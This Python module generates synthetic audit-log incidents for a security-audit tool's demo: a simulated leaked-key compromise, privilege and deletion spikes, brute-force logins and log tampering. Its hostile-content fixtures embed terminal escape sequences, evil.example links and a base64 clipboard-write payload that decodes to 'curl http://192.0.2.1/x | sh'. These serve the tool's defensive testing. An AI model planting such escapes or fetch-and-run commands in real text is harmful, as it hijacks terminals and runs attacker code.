"""The planted part of the demo org: steady key usage, org history, and the incidents ddaudit must find.

Everything here is generated from a fixed RNG (independent of the demo seed) and placed relative to
`end_ms`, so the incidents — and `PLANTED`, which names them — are the same whatever the seed or the
volume of background traffic. Times that matter are recorded by name (`PLANTED.times(end_ms)`).
"""

from __future__ import annotations

import functools
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, tzinfo
from datetime import time as dtime
from datetime import timezone as dt_timezone
from typing import Any

from ddaudit_tui.demo.catalog import (
    AI_DELETED_MONITORS,
    API_KEYS,
    BITS_AGENT,
    BROWSER_UAS,
    CI_KEY,
    CITIES,
    CLEAN_KEY,
    COMPROMISE_DELETED_DASHBOARDS,
    COMPROMISE_DELETED_MONITORS,
    COMPROMISE_DELETED_PIPELINES,
    COMPROMISED_KEY,
    DASHBOARDS,
    HISTORY_KEYS,
    KEY_PATHS,
    MINTED_APP_KEY,
    MINTED_KEYS,
    MONITORS,
    NOTEBOOKS,
    OAUTH_CLIENTS,
    ORIGINS,
    PEOPLE,
    PIPELINES,
    ROLES,
    SERVICE_ACCOUNTS,
    SPIKE_DELETED_MONITOR,
    STABLE_MONITORS,
    SUPPORT_USER,
    Person,
    ServiceAccount,
)
from ddaudit_tui.demo.shapes import (
    TAGS_NOTABLE,
    Shapes,
    person_origin,
    person_usr,
    sa_usr,
)
from ddaudit_tui.events.decode import parse_timestamp

S = 1000
M = 60 * S
H = 60 * M
D = 24 * H

PLANTED_RNG_SEED = "ddaudit-demo-planted-v1"
CI_TZ = "America/New_York"

# threat: realistic attacker-controlled text (Rich markup, OSC 52 clipboard write, screen clear, bidi).
HOSTILE_NAME = (
    "[bold]x[/bold] [@click=app.quit]Q3 revenue[/] \u202egpj.exe "
    "\u001b]52;c;Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==\u0007\u001b[2J\u001b[31mALERT"
)
HOSTILE_UA = (
    "Mozilla/5.0 [link=https://evil.example]x[/link] [@click=app.quit]ok[/] "
    "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J \u202eexe.tnega"
)
HOSTILE_ASSET_ID = "hx1-0wn-3d7"


# -- time zones -------------------------------------------------------------------------------

_FALLBACK_OFFSETS = {  # standard offsets, used only when the system has no tz database
    "America/New_York": -5, "America/Toronto": -5, "America/Chicago": -6, "America/Denver": -7,
    "America/Los_Angeles": -8, "America/Sao_Paulo": -3, "Europe/London": 0, "Europe/Dublin": 0,
    "Europe/Paris": 1, "Europe/Berlin": 1, "Europe/Amsterdam": 1, "Europe/Bucharest": 2,
    "Asia/Kolkata": 5.5,
}  # fmt: skip
_ZONES: dict[str, tzinfo] = {}


def zone(name: str) -> tzinfo:
    z = _ZONES.get(name)
    if z is None:
        try:
            from zoneinfo import ZoneInfo

            z = ZoneInfo(name)
        except Exception:  # no tz database (e.g. Windows without tzdata): fixed standard offset
            z = dt_timezone(timedelta(hours=_FALLBACK_OFFSETS.get(name, 0)))
        _ZONES[name] = z
    return z


def local_ms(end_ms: int, tz: str, days_back: int, hour: int, minute: int = 0, second: int = 0) -> int:
    """Epoch ms of the wall-clock time hour:minute in `tz`, `days_back` local days before end_ms's date."""
    z = zone(tz)
    day = datetime.fromtimestamp(end_ms / 1000, z).date() - timedelta(days=days_back)
    dt = datetime.combine(day, dtime(hour, minute, second), tzinfo=z)
    return int(dt.timestamp() * 1000)


def local_weekday(end_ms: int, tz: str, days_back: int) -> int:
    z = zone(tz)
    return (datetime.fromtimestamp(end_ms / 1000, z).date() - timedelta(days=days_back)).weekday()


# -- what was planted -------------------------------------------------------------------------


def _email(key: str) -> str:
    return PEOPLE[key].email


@dataclass(frozen=True)
class Planted:
    """Names of everything planted, for tests and docs.

    `times(end_ms)` gives the epoch-ms time of each incident for a given end. Those are the scripted
    moments (whole seconds); the events themselves carry a random fraction of a second after them.
    """

    # API key compromise (detections.md §3)
    compromised_key: str = COMPROMISED_KEY
    compromised_key_name: str = API_KEYS[COMPROMISED_KEY].name
    compromised_app_key: str = API_KEYS[COMPROMISED_KEY].app_key_id
    compromised_key_user: str = SERVICE_ACCOUNTS["metrics_sync"].email  # the service account using it
    compromised_key_creator: str = _email("marcus")
    compromised_key_creator_ip: str = PEOPLE["marcus"].ip
    compromised_normal_ip: str = ORIGINS["ci_metrics"].ip
    attacker_vpn_ip: str = ORIGINS["attacker_vpn"].ip  # Bucharest, M247 AS9009, NordVPN tunnel
    attacker_home_ip: str = ORIGINS["attacker_home"].ip  # Bucharest, RCS & RDS (ISP)
    leak_home_ip: str = ORIGINS["leak_nyc_home"].ip  # New York, Verizon (ISP)
    attacker_country_iso: str = "RO"
    attacker_asn: int = 9009
    burst_requests: int = 150
    deleted_monitors: tuple[str, ...] = COMPROMISE_DELETED_MONITORS
    deleted_dashboards: tuple[str, ...] = COMPROMISE_DELETED_DASHBOARDS
    deleted_pipelines: tuple[str, ...] = COMPROMISE_DELETED_PIPELINES
    # steady keys
    clean_key: str = CLEAN_KEY
    clean_key_name: str = API_KEYS[CLEAN_KEY].name
    clean_key_user: str = SERVICE_ACCOUNTS["status_board"].email
    ci_key: str = CI_KEY
    ci_key_name: str = API_KEYS[CI_KEY].name
    ci_key_user: str = SERVICE_ACCOUNTS["ci_deploy"].email
    ci_timezone: str = CI_TZ
    ci_local_hours: tuple[int, ...] = (13, 14, 15, 16, 17)  # weekdays only
    # spike watch (all within the last 24 h unless noted)
    role_grant_user: str = _email("dave")
    role_grants: int = 4  # within 11 minutes
    role_grant_near_miss_user: str = _email("alice")  # 2 role grants in 15 min
    key_minting_user: str = _email("jdoe")
    minted_keys: tuple[str, ...] = MINTED_KEYS  # 3 API keys ...
    minted_app_key: str = MINTED_APP_KEY  # ... plus 1 application key, within 12 minutes
    monitor_deletion_user: str = _email("sara")
    monitor_deleted: str = SPIKE_DELETED_MONITOR
    bulk_deletion_user: str = _email("matt")
    bulk_deleted_dashboards: int = 12  # distinct, within 8 minutes
    bulk_near_miss_user: str = _email("lucas")
    bulk_near_miss_dashboards: int = 9  # distinct, spread so no 10-minute window holds 10
    audit_settings_user: str = _email("rachel")
    support_user: str = SUPPORT_USER["email"]
    access_policy_user: str = _email("alice")  # restriction policy + identity provider changes
    unusual_login_user: str = _email("ryan")
    unusual_login_ip: str = ORIGINS["unusual_login"].ip  # São Paulo; ryan normally works from Dublin
    log_config_user: str = _email("jonas")
    # explore presets
    brute_force_ip: str = ORIGINS["bruteforce"].ip
    brute_force_failures: int = 14  # within 4 minutes
    shared_dashboard: str = DASHBOARDS[0][0]
    shared_dashboard_editors: tuple[str, ...] = tuple(
        _email(k) for k in ("alice", "marcus", "priya", "daniel")
    )
    # AI activity (detections.md §4.3), within the last 7 days
    ai_destructive_user: str = _email("priya")
    ai_destructive_tools: tuple[str, ...] = ("delete_monitor", "update_dashboard")
    ai_deleted_monitors: tuple[str, ...] = AI_DELETED_MONITORS
    ai_support_user: str = SUPPORT_USER["email"]
    ai_first_time_user: str = _email("tom")
    ai_burst_user: str = _email("kevin")
    ai_burst_calls: int = 120  # within 5 minutes
    ai_out_of_scope_user: str = _email("emma")  # non-AI scope: dashboards and notebooks only
    ai_quiet_user: str = _email("sara")
    ai_delegators: tuple[str, ...] = (_email("emma"), _email("kevin"))
    bits_agent_name: str = BITS_AGENT["name"]
    # hostile content
    hostile_user: str = _email("vkral")
    hostile_asset_id: str = HOSTILE_ASSET_ID
    hostile_asset_name: str = HOSTILE_NAME
    hostile_useragent: str = HOSTILE_UA

    def times(self, end_ms: int) -> dict[str, int]:
        """Epoch-ms times of the planted incidents for a given end_ms (key → time)."""
        return dict(planted_times(end_ms))


PLANTED = Planted()


# -- the builder ------------------------------------------------------------------------------


@dataclass
class _Plant:
    end: int
    shapes: Shapes
    items: list[dict[str, Any]] = field(default_factory=list)
    times: dict[str, int] = field(default_factory=dict)

    @property
    def rng(self) -> random.Random:
        return self.shapes.rng

    def add(self, item: dict[str, Any]) -> None:
        self.items.append(item)

    def mark(self, name: str, ts: int) -> int:
        self.times[name] = ts
        return ts


@functools.lru_cache(maxsize=8)
def planted_times(end_ms: int) -> dict[str, int]:
    return _build(end_ms)[1]


def build_planted(end_ms: int) -> tuple[list[dict[str, Any]], dict[str, int]]:
    """All planted items (unsorted; some may fall before a short window's start) and named times."""
    return _build(end_ms)


def _build(end_ms: int) -> tuple[list[dict[str, Any]], dict[str, int]]:
    p = _Plant(end_ms, Shapes(random.Random(PLANTED_RNG_SEED), jitter=True))
    for step in _STEPS:
        step(p)
    p.items = [it for it in p.items if _ts_of(it) < end_ms]
    return p.items, p.times


def _ts_of(item: dict[str, Any]) -> int:
    return parse_timestamp(item["attributes"]["timestamp"]) or 0


# -- steady key usage ---------------------------------------------------------------------------


def _weighted(rng: random.Random, rows: list[tuple[str, str, float]]) -> tuple[str, str]:
    method, path, _ = rng.choices(rows, weights=[r[2] for r in rows])[0]
    return method, path


def _fill_path(rng: random.Random, template: str) -> tuple[str, str]:
    """A concrete path and its route template (`{dash}` → a dashboard id and `{dashboard_id}`)."""
    if "{" not in template:
        return template, template
    path, route = template, template
    for token, pool, name in (
        ("{dash}", DASHBOARDS, "{dashboard_id}"),
        ("{mon}", MONITORS, "{monitor_id}"),
        ("{syn}", [("abc-123-xyz", "")], "{public_id}"),
    ):
        if token in path:
            path = path.replace(token, rng.choice(pool)[0])
            route = route.replace(token, name)
    return path, route


def _key_request(
    p: _Plant,
    ts: int,
    sa: ServiceAccount,
    key: str,
    origin: str,
    method: str,
    template: str,
    ua: str | None = None,
    code: int | None = None,
) -> dict[str, Any]:
    path, route = _fill_path(p.rng, template)
    if code is None:
        code = 202 if method == "POST" and path in ("/api/v1/events", "/api/v2/series") else 200
    return p.shapes.request(
        ts,
        sa_usr(sa),
        "SERVICE_ACCOUNT",
        sa.email,
        origin,
        method,
        path,
        route,
        code,
        ua or sa.useragent,
        api_key=key,
        app_key=API_KEYS[key].app_key_id,
    )


def _steady_key(
    p: _Plant,
    key: str,
    first_day_back: int,
    last_day_back: int,
    hours: tuple[int, ...],
    recent_hours: tuple[int, ...],
    per_run: tuple[int, int],
) -> None:
    """Weekday runs at fixed local hours (America/New_York), from one origin, a couple of calls each.

    The last 7 days use only the middle hours: their UTC hour-of-week slots are then active in the
    baseline whichever side of a DST change they fall (an off-hours detector must stay quiet).
    """
    acct = API_KEYS[key]
    sa = SERVICE_ACCOUNTS[acct.owner]
    rng = p.rng
    for back in range(first_day_back, last_day_back - 1, -1):
        if local_weekday(p.end, CI_TZ, back) >= 5:
            continue
        for hour in recent_hours if back <= 7 else hours:
            if rng.random() > 0.75:
                continue
            t = local_ms(p.end, CI_TZ, back, hour, rng.randrange(2, 50), rng.randrange(60))
            for _ in range(rng.randint(*per_run)):
                method, template = _weighted(rng, KEY_PATHS[acct.owner])
                p.add(_key_request(p, t, sa, key, sa.origin, method, template))
                t += rng.randrange(10, 90) * S


def steady_keys(p: _Plant) -> None:
    # The CI key: weekday afternoons in New York, from AWS us-east-1 (a hosting ASN), for 90 days.
    _steady_key(p, CI_KEY, 89, 0, (13, 14, 15, 16, 17), (14, 15), (1, 2))
    # The clean key: the NYC office status board, weekday business hours, one office address.
    _steady_key(p, CLEAN_KEY, 89, 0, (10, 11, 12, 13, 14, 15, 16), (11, 12, 13, 14), (1, 2))


# -- the compromised key ----------------------------------------------------------------------


def compromised_key(p: _Plant) -> None:
    rng, sh, end = p.rng, p.shapes, p.end
    key = COMPROMISED_KEY
    sa = SERVICE_ACCOUNTS["metrics_sync"]
    marcus = PEOPLE["marcus"]

    # Created ~60 days before the end by Marcus, from his Boston session.
    created = p.mark("compromised_key_created", local_ms(end, CI_TZ, 60, 11, 23, 41))
    p.add(
        sh.change(
            created,
            "Authentication",
            "api_key",
            "created",
            key,
            API_KEYS[key].name,
            usr=person_usr(marcus, full=True),
            origin=person_origin(marcus),
            http=("POST", "/api/v2/api_keys", 201),
            useragent=_ua(marcus),
        )
    )
    # Normal use for weeks: weekday afternoons from GCP us-east4, like the CI key.
    _steady_key(p, key, 59, 0, (13, 14, 15, 16, 17), (14, 15), (1, 2))

    # The off-hours night: 03:00 New York, 2 or 3 nights ago (a weekend night when there is one).
    back = 3 if local_weekday(end, CI_TZ, 3) >= 5 and local_weekday(end, CI_TZ, 2) < 5 else 2
    burst = p.mark("compromise_burst_start", local_ms(end, CI_TZ, back, 3, 4, 10))

    # Recon from the VPN (M247 Bucharest, NordVPN exit) 40 minutes earlier: first use from Romania.
    t = p.mark("compromise_first_foreign_use", burst - 40 * M)
    for template in (
        "/api/v1/validate",
        "/api/v2/users",
        "/api/v1/org",
        "/api/v2/roles",
        "/api/v1/dashboard",
    ):
        p.add(_key_request(p, t, sa, key, "attacker_vpn", "GET", template, ua="python-requests/2.32.3"))
        t += rng.randrange(4, 40) * S

    # The burst: 150 GETs in 5 minutes, enumerating dashboards, users and monitors.
    paths = [
        "/api/v1/dashboard",
        "/api/v1/dashboard/{dash}",
        "/api/v2/users",
        "/api/v1/monitor",
        "/api/v1/monitor/{mon}",
    ]
    step = (5 * M - 2 * S) // PLANTED.burst_requests
    for i in range(PLANTED.burst_requests):
        ts = burst + i * step + rng.randrange(0, step)
        p.add(
            _key_request(
                p, ts, sa, key, "attacker_vpn", "GET", paths[i % len(paths)], ua="python-requests/2.32.3"
            )
        )

    # Concurrent use within one 30-minute bucket, 7 hours later (10:00 New York): the key copied on a
    # developer's home machine in New York (Verizon), and the attacker's home line in Bucharest (RCS & RDS)
    # 7 minutes later — impossible travel between two non-hosting networks — plus the VPN.
    bucket = p.mark("compromise_concurrent_bucket", (burst + 7 * H) // (30 * M) * (30 * M))
    t = p.mark("compromise_travel_from", bucket + 2 * M + 13 * S)
    for template in ("/api/v1/dashboard", "/api/v1/monitor", "/api/v2/query/scalar"):
        method = "POST" if "query" in template else "GET"
        p.add(_key_request(p, t, sa, key, "leak_nyc_home", method, template, ua="curl/8.7.1"))
        t += rng.randrange(20, 60) * S
    t = p.mark("compromise_travel_to", bucket + 9 * M + 31 * S)
    for template in ("/api/v2/users", "/api/v1/dashboard/{dash}", "/api/v2/users", "/api/v1/org"):
        p.add(_key_request(p, t, sa, key, "attacker_home", "GET", template, ua="python-requests/2.32.3"))
        t += rng.randrange(15, 50) * S
    t = bucket + 14 * M + 5 * S
    for template in ("/api/v1/monitor", "/api/v2/roles", "/api/v1/logs/config/pipelines"):
        p.add(_key_request(p, t, sa, key, "attacker_vpn", "GET", template, ua="python-requests/2.32.3"))
        t += rng.randrange(10, 30) * S

    # Destruction the next morning: DELETE requests and the product `deleted` events they cause.
    t = p.mark("compromise_deletions_start", burst + 30 * H)
    targets: list[tuple[str, str, str, str, str]] = []
    names = dict(MONITORS) | dict(DASHBOARDS) | dict(PIPELINES)
    for mid in COMPROMISE_DELETED_MONITORS:
        targets.append(("Monitor", "monitor", mid, f"/api/v1/monitor/{mid}", "/api/v1/monitor/{monitor_id}"))
    for did in COMPROMISE_DELETED_DASHBOARDS:
        targets.append(
            ("Dashboard", "dashboard", did, f"/api/v1/dashboard/{did}", "/api/v1/dashboard/{dashboard_id}")
        )
    for pid in COMPROMISE_DELETED_PIPELINES:
        targets.append(
            (
                "Log Management",
                "pipeline",
                pid,
                f"/api/v1/logs/config/pipelines/{pid}",
                "/api/v1/logs/config/pipelines/{pipeline_id}",
            )
        )
    for evt_name, asset_type, asset_id, path, route in targets:
        p.add(
            sh.request(
                t, sa_usr(sa), "SERVICE_ACCOUNT", sa.email, "attacker_vpn", "DELETE", path, route, 200,
                "python-requests/2.32.3", api_key=key, app_key=API_KEYS[key].app_key_id,
            )
        )  # fmt: skip
        p.add(
            sh.change(
                t + rng.randrange(40, 400),
                evt_name,
                asset_type,
                "deleted",
                asset_id,
                names[asset_id],
                usr=sa_usr(sa),
                actor_type="SERVICE_ACCOUNT",
                email=sa.email,
                origin="attacker_vpn",
                auth="API_AND_APP_KEY",
                metadata={"api_key": {"id": key}, "application_key": {"id": API_KEYS[key].app_key_id}},
                http=("DELETE", path, 200),
                useragent="python-requests/2.32.3",
                inner_tags=[f"monitor_id:{asset_id}", "origin:API"] if asset_type == "monitor" else None,
            )
        )
        t += rng.randrange(90, 200) * S

    # Datadog found the key in a public repository: the token-leaked Security Notification.
    t = p.mark("compromise_leak_notification", end - 5 * H + 17 * M)
    p.add(
        sh.security_notification(
            t,
            "api_key",
            key,
            API_KEYS[key].name,
            f'Datadog detected that API key "{API_KEYS[key].name}" was leaked publicly on GitHub; '
            "it should be revoked",
            new={
                "leak_source": "github",
                "url": "https://github.com/example-corp-dev/metrics-sync/blob/main/.env",
            },
        )
    )


# -- the spike-watch cluster (last 24 hours) ----------------------------------------------------


def spike_cluster(p: _Plant) -> None:
    rng, sh, end = p.rng, p.shapes, p.end

    # Role grants: Dave adds four users to privileged roles in 11 minutes.
    dave = PEOPLE["dave"]
    t = p.mark("role_grants_start", end - 3 * H - 12 * M)
    for i, (grantee, role) in enumerate(
        [("tom", ROLES[0]), ("lucas", ROLES[0]), ("vkral", ROLES[3]), ("jdoe", ROLES[0])]
    ):
        p.add(_role_grant(p, t, dave, PEOPLE[grantee], role))
        t += (2 + i) * M + rng.randrange(60) * S
    # Near miss: Alice grants twice in 15 minutes (below a threshold of 3).
    alice = PEOPLE["alice"]
    t = p.mark("near_miss_role_grants_start", end - 9 * H - 40 * M)
    p.add(_role_grant(p, t, alice, PEOPLE["olivia"], ROLES[4]))
    p.add(_role_grant(p, t + 6 * M, alice, PEOPLE["zoe"], ROLES[4]))

    # Key minting: a contractor creates three API keys and an application key in 12 minutes.
    jdoe = PEOPLE["jdoe"]
    t = p.mark("key_minting_start", end - 4 * H - 25 * M)
    for i, kid in enumerate(MINTED_KEYS):
        p.add(
            sh.change(
                t, "Authentication", "api_key", "created", kid, f"tmp-migration-{i + 1}",
                usr=person_usr(jdoe, full=True), origin=person_origin(jdoe),
                http=("POST", "/api/v2/api_keys", 201), useragent=_ua(jdoe),
            )
        )  # fmt: skip
        t += 3 * M + rng.randrange(60) * S
    p.add(
        sh.change(
            t, "Authentication", "application_key", "created", MINTED_APP_KEY, "tmp-migration-app",
            usr=person_usr(jdoe, full=True), origin=person_origin(jdoe),
            http=("POST", "/api/v2/current_user/application_keys", 201), useragent=_ua(jdoe),
        )
    )  # fmt: skip

    # A single monitor deletion (a rule that fires on any).
    sara = PEOPLE["sara"]
    t = p.mark("monitor_deletion", end - 2 * H - 8 * M)
    mid = SPIKE_DELETED_MONITOR
    p.add(
        _session_delete(p, t, sara, "Monitor", "monitor", mid, dict(MONITORS)[mid], f"/api/v1/monitor/{mid}")
    )

    # Bulk deletion: 12 distinct load-test dashboards in 8 minutes (created by Matt 20 days earlier).
    matt = PEOPLE["matt"]
    boards = [(f"lt{i:x}-{_code(rng)}-{_code(rng)}", f"[Load test] Run {i:02d}") for i in range(1, 13)]
    t = end - 20 * D - 3 * H
    for bid, name in boards:
        p.add(_session_change(p, t, matt, "Dashboard", "dashboard", "created", bid, name))
        t += rng.randrange(2, 9) * M
    t = p.mark("bulk_deletion_start", end - 1 * H - 34 * M)
    for bid, name in boards:
        p.add(_session_delete(p, t, matt, "Dashboard", "dashboard", bid, name, f"/api/v1/dashboard/{bid}"))
        t += 40 * S + rng.randrange(0, 10) * S
    # Near miss: Lucas deletes 9 old QA boards, 68 s apart (9 in 10 minutes, never 10).
    lucas = PEOPLE["lucas"]
    qa = [(f"qa{i:x}-{_code(rng)}-{_code(rng)}", f"[QA] Sprint 41 board {i}") for i in range(1, 10)]
    t = end - 31 * D
    for bid, name in qa:
        p.add(_session_change(p, t, lucas, "Dashboard", "dashboard", "created", bid, name))
        t += rng.randrange(3, 20) * M
    t = p.mark("bulk_near_miss_start", end - 7 * H - 3 * M)
    for bid, name in qa:
        p.add(_session_delete(p, t, lucas, "Dashboard", "dashboard", bid, name, f"/api/v1/dashboard/{bid}"))
        t += 68 * S

    # Audit Trail settings: retention cut from 90 to 3 days (tampering signal).
    rachel = PEOPLE["rachel"]
    t = p.mark("audit_settings_change", end - 5 * H - 31 * M)
    p.add(
        _session_change(
            p, t, rachel, "Organization Management", "audit_logs_settings", "modified", "audit_logs_settings",
            "Audit Trail settings", prev={"enabled": True, "retention_days": 90},
            new={"enabled": True, "retention_days": 3}, http=("PATCH", "/api/v2/audit/settings", 200),
        )
    )  # fmt: skip

    # Datadog support acting in the org: email update, invite, role change, IP allowlist.
    t = p.mark("support_actions_start", end - 10 * H - 15 * M)
    liam = PEOPLE["liam"]
    for asset_type, action, aid, name, prev, new in (
        ("user", "modified", liam.uuid, liam.email, {"email": "liam.oconnor@example.org"}, {"email": liam.email}),
        ("user", "created", "2a7c1e94-6b3d-4f08-9e52-c1d8a0b7f3e6", "new.hire@example.com", None, {"email": "new.hire@example.com"}),
        ("role", "modified", ROLES[4][0], ROLES[4][1], {"permissions": ["monitors_read"]}, {"permissions": ["monitors_read", "monitors_write"]}),
        ("ip_allowlist", "modified", "ip_allowlist", "IP allowlist", {"enabled": True}, {"enabled": False}),
    ):  # fmt: skip
        p.add(
            sh.change(
                t, "Access Management", asset_type, action, aid, name,
                usr=dict(SUPPORT_USER), actor_type="SUPPORT_USER", email=SUPPORT_USER["email"], prev=prev, new=new,
            )
        )  # fmt: skip
        t += rng.randrange(3, 9) * M

    # Access policy: a restriction policy opened up, then password login re-enabled on the IdP settings.
    t = p.mark("restriction_policy_change", end - 8 * H - 2 * M)
    p.add(
        _session_change(
            p, t, alice, "Access Management", "restriction_policy", "modified", "dashboard:abc-4kq-9zt",
            "Checkout Service Overview", prev={"bindings": [{"relation": "editor", "principals": ["role:admins"]}]},
            new={"bindings": [{"relation": "editor", "principals": ["org:" + "example-corp"]}]},
            http=("POST", "/api/v2/restriction_policy/dashboard:abc-4kq-9zt", 200),
        )
    )  # fmt: skip
    t = p.mark("identity_provider_change", t + 5 * M + 12 * S)
    p.add(
        _session_change(
            p, t, alice, "Access Management", "identity_provider", "modified", "login_methods",
            "Allowed login methods", prev={"password": False, "google": False, "saml": True},
            new={"password": True, "google": False, "saml": True},
        )
    )  # fmt: skip

    # Unusual login: Ryan (Dublin) logs in from São Paulo 40 minutes after working from Dublin.
    ryan = PEOPLE["ryan"]
    t = p.mark("unusual_login", end - 11 * H - 4 * M)
    p.add(
        sh.request(
            t - 40 * M, person_usr(ryan), "USER", ryan.email, person_origin(ryan), "POST",
            "/api/v2/query/timeseries", "/api/v2/query/timeseries", 200, _ua(ryan), host="app.datadoghq.com",
        )
    )  # fmt: skip
    p.add(sh.login(t, person_usr(ryan, full=True), ryan.email, "unusual_login", True, "PASSWORD", _ua(ryan)))
    p.add(
        sh.security_notification(
            t + 95 * S, "unusual_login", ryan.uuid, ryan.email,
            f"Datadog detected an unusual login for {ryan.email} from São Paulo, Brazil",
            usr=person_usr(ryan), origin="unusual_login",
        )
    )  # fmt: skip

    # Log configuration: pipeline and index changes, and an exclusion filter that drops security logs.
    jonas = PEOPLE["jonas"]
    t = p.mark("log_config_changes_start", end - 6 * H - 20 * M)
    p.add(
        _session_change(
            p, t, jonas, "Log Management", "pipeline", "modified", PIPELINES[0][0], PIPELINES[0][1],
            prev={"is_enabled": True}, new={"is_enabled": False},
        )
    )  # fmt: skip
    p.add(
        _session_change(
            p, t + 4 * M, jonas, "Log Management", "index", "modified", "security", "security",
            prev={"num_retention_days": 15}, new={"num_retention_days": 3}, tags=TAGS_NOTABLE,
        )
    )  # fmt: skip
    for spelling, delta in (("exclusion_filter", 7 * M), ("exclusion filter", 9 * M)):
        p.add(
            _session_change(
                p, t + delta, jonas, "Log Management", spelling, "created" if delta == 7 * M else "modified",
                "security:drop-all", "drop all security logs",
                new={"filter": {"query": "source:cloudtrail", "sample_rate": 1.0}, "is_enabled": True},
                tags=TAGS_NOTABLE,
            )
        )  # fmt: skip


# -- explore presets ------------------------------------------------------------------------------


def explore_presets(p: _Plant) -> None:
    rng, sh, end = p.rng, p.shapes, p.end
    # Brute force: 14 failed logins from one hosting address in 4 minutes, against several accounts.
    t = p.mark("brute_force_start", end - 12 * H - 50 * M)
    targets = [
        "alice",
        "marcus",
        "dave",
        "rachel",
        None,
        "alice",
        "dave",
        None,
        "marcus",
        "alice",
        "rachel",
        None,
        "dave",
        "alice",
    ]
    for who in targets:
        if who is None:
            usr = {"id": "admin@example.com", "email": "admin@example.com"}
            email = "admin@example.com"
        else:
            usr, email = person_usr(PEOPLE[who]), PEOPLE[who].email
        p.add(sh.login(t, usr, email, "bruteforce", False, "PASSWORD", "python-requests/2.31.0"))
        t += rng.randrange(9, 17) * S
    # One dashboard edited by four people over the last three days.
    did, name = DASHBOARDS[0]
    t = end - 3 * D + 2 * H
    for key in ("alice", "marcus", "priya", "daniel", "priya"):
        p.add(_session_change(p, t, PEOPLE[key], "Dashboard", "dashboard", "modified", did, name))
        t += rng.randrange(5, 14) * H

    # Hostile content: a dashboard whose title and the creator's user agent carry markup and escapes.
    vk = PEOPLE["vkral"]
    t = p.mark("hostile_event", end - 14 * H - 7 * M)
    p.add(
        sh.change(
            t, "Dashboard", "dashboard", "created", HOSTILE_ASSET_ID, HOSTILE_NAME,
            usr=person_usr(vk, full=True), email=vk.email, origin=person_origin(vk),
            http=("POST", "/api/v1/dashboard", 200), useragent=HOSTILE_UA,
        )
    )  # fmt: skip
    p.add(
        sh.request(
            t + 20 * S, person_usr(vk), "USER", vk.email, person_origin(vk), "GET",
            f"/api/v1/dashboard/{HOSTILE_ASSET_ID}", "/api/v1/dashboard/{dashboard_id}", 200, HOSTILE_UA,
        )
    )  # fmt: skip


# -- org history (spaced out: no burst rule should fire on it) -----------------------------------


def org_history(p: _Plant) -> None:
    rng, sh, end = p.rng, p.shapes, p.end
    alice, marcus, ben, rachel, dave = (PEOPLE[k] for k in ("alice", "marcus", "ben", "rachel", "dave"))
    # Role grants for new joiners, one at a time, weeks apart.
    for days, grantee, role in (
        (75, "tom", ROLES[1]),
        (50, "nina", ROLES[1]),
        (33, "ethan", ROLES[4]),
        (20, "zoe", ROLES[2]),
    ):
        p.add(_role_grant(p, end - days * D + 15 * H, alice, PEOPLE[grantee], role))
    # Invites and an offboarding.
    p.add(
        _session_change(
            p, end - 76 * D + 14 * H, dave, "Access Management", "user", "created", PEOPLE["tom"].uuid,
            PEOPLE["tom"].email, new={"email": PEOPLE["tom"].email, "roles": [ROLES[1][1]]},
        )
    )  # fmt: skip
    p.add(
        _session_change(
            p, end - 40 * D + 16 * H, dave, "Access Management", "user", "modified",
            "6e0d2b8a-3f1c-4a97-b5e4-8c2d9f0a1b73", "former.employee@example.com",
            prev={"disabled": False}, new={"disabled": True},
        )
    )  # fmt: skip
    # API keys created and deleted by different people over the quarter.
    for i, kid in enumerate(HISTORY_KEYS):
        who = (alice, marcus, ben, marcus)[i]
        created = end - (82 - 17 * i) * D + (15 + i) * H
        name = ("staging-ingest", "load-test", "vendor-poc", "backfill-2026")[i]
        p.add(
            sh.change(
                created, "Authentication", "api_key", "created", kid, name, usr=person_usr(who, full=True),
                origin=person_origin(who), http=("POST", "/api/v2/api_keys", 201), useragent=_ua(who),
            )
        )  # fmt: skip
        p.add(
            sh.change(
                created + (6 + i) * D + 2 * H, "Authentication", "api_key", "deleted", kid, name,
                usr=person_usr(who, full=True), origin=person_origin(who),
                http=("DELETE", f"/api/v2/api_keys/{kid}", 204), useragent=_ua(who),
            )
        )  # fmt: skip
    # An application key for the terraform service account (Access Management, service account key).
    p.add(
        _session_change(
            p, end - 44 * D + 17 * H, ben, "Access Management", "application_key", "created",
            API_KEYS[next(k for k in API_KEYS if API_KEYS[k].owner == "terraform")].app_key_id,
            "terraform-prod-app", new={"service_account": "terraform@example.com"},
        )
    )  # fmt: skip
    # Weekly audit-trail queries by the security engineer, and one CSV export.
    for week in range(12):
        t = end - (84 - 7 * week) * D + 15 * H + rng.randrange(0, 120) * M
        search = rng.choice(
            ['@evt.name:"Access Management"', "@action:deleted", "@evt.name:Authentication @status:error"]
        )
        p.add(
            _session_change(
                p, t, rachel, "Audit Trail", "query", "queried", None, None,
                new={"query": {"search": search}, "query_source": "audit_explorer"},
                message=f"{rachel.email} successfully queried audit events",
            )
        )  # fmt: skip
    p.add(
        _session_change(
            p, end - 30 * D + 16 * H, rachel, "Audit Trail", "audit_events_csv", "accessed", None,
            "audit-events-export.csv", new={"query": "*", "row_count": 10000},
        )
    )  # fmt: skip
    p.add(
        _session_change(
            p, end - 45 * D + 10 * H, alice, "Organization Management", "email_domain_allowlist", "accessed",
            None, None, message=f"{alice.email} viewed domain allowlist",
        )
    )  # fmt: skip
    # Emma's own (non-AI) work of the last 30 days: dashboards and notebooks only.
    emma = PEOPLE["emma"]
    for i in range(10):
        t = end - (28 - 3 * i) * D + 11 * H + rng.randrange(0, 240) * M
        if i % 3 == 2:
            nid, name = NOTEBOOKS[i % len(NOTEBOOKS)]
            p.add(_session_change(p, t, emma, "Notebook", "notebook", "modified", nid, name))
        else:
            did, name = DASHBOARDS[(i * 5) % len(DASHBOARDS)]
            if did in COMPROMISE_DELETED_DASHBOARDS:
                did, name = DASHBOARDS[0]
            p.add(_session_change(p, t, emma, "Dashboard", "dashboard", "modified", did, name))
    # Tom (the future first-time AI user) works normally: dashboards and monitors.
    tom = PEOPLE["tom"]
    for i in range(8):
        t = end - (60 - 7 * i) * D + 16 * H + rng.randrange(0, 180) * M
        mid, name = MONITORS[(i * 3) % len(MONITORS)]
        if mid in COMPROMISE_DELETED_MONITORS or mid in AI_DELETED_MONITORS or mid == SPIKE_DELETED_MONITOR:
            mid, name = MONITORS[0]
        p.add(_session_change(p, t, tom, "Monitor", "monitor", "modified", mid, name))


# -- AI activity --------------------------------------------------------------------------------


